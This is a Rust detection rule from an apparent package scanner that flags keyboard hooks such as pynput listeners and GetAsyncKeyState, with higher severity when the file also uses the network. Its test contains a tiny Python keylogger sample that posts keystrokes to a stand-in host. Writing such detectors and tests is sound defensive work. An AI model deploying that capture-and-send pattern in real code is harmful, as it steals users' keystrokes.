//! keylogger: global keyboard hooks and key-state polling.

use crate::finding::RuleInfo;
use crate::finding::{Confidence, Severity};
use crate::inspect::{Emitter, FileCx};

pub static INFO: RuleInfo = RuleInfo {
    id: "keylogger",
    severity: Severity::High,
    summary: "Global keyboard capture (pynput/keyboard hooks, GetAsyncKeyState)",
    help: "Reports global keystroke capture: pynput.keyboard.Listener, keyboard.on_press/hook/\
           record, GetAsyncKeyState/SetWindowsHookEx polling through ctypes. Automation and \
           hotkey tools use these legitimately (medium in function bodies); combined with \
           network use in the same file, or at install/import time, it is high.",
};

pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
    let Some(facts) = cx.facts else { return };
    // Whether the file uses the network, worked out only for a file with a hook.
    let net_cell = std::cell::OnceCell::new();
    for c in &facts.calls {
        let hook = matches!(
            c.name.as_str(),
            "pynput.keyboard.Listener"
                | "keyboard.on_press"
                | "keyboard.on_release"
                | "keyboard.hook"
                | "keyboard.record"
                | "keyboard.start_recording"
                | "pyHook.HookManager"
        ) || c.name.ends_with("GetAsyncKeyState")
            || c.name.ends_with("SetWindowsHookExA")
            || c.name.ends_with("SetWindowsHookExW")
            || c.name.ends_with("GetKeyState") && c.name.contains("windll");
        if !hook {
            continue;
        }
        let net = *net_cell.get_or_init(|| cx.has_network());
        let sev = if net {
            c.ctx.pick(Severity::Critical, Severity::High)
        } else {
            c.ctx.pick(Severity::High, Severity::Medium)
        };
        out.emit(
            &INFO,
            sev,
            Confidence::Medium,
            c.line,
            format!(
                "global keyboard capture via `{}`{}",
                c.name,
                if net {
                    " in a file that uses the network"
                } else {
                    ""
                }
            ),
            c.note.as_deref(),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::inspect::rules::testutil::worst;

    #[test]
    fn listener_with_network() {
        let src = "from pynput import keyboard\nimport requests\ndef on(k):\n    requests.post('https://x.example.invalid', data=str(k))\ndef start():\n    keyboard.Listener(on_press=on).start()\n";
        assert_eq!(worst("keylogger", "pkg/a.py", src), Some(Severity::High));
    }

    #[test]
    fn no_hooks() {
        assert_eq!(
            worst("keylogger", "pkg/a.py", "import keyboardlayout\nx = 1\n"),
            None
        );
    }
}
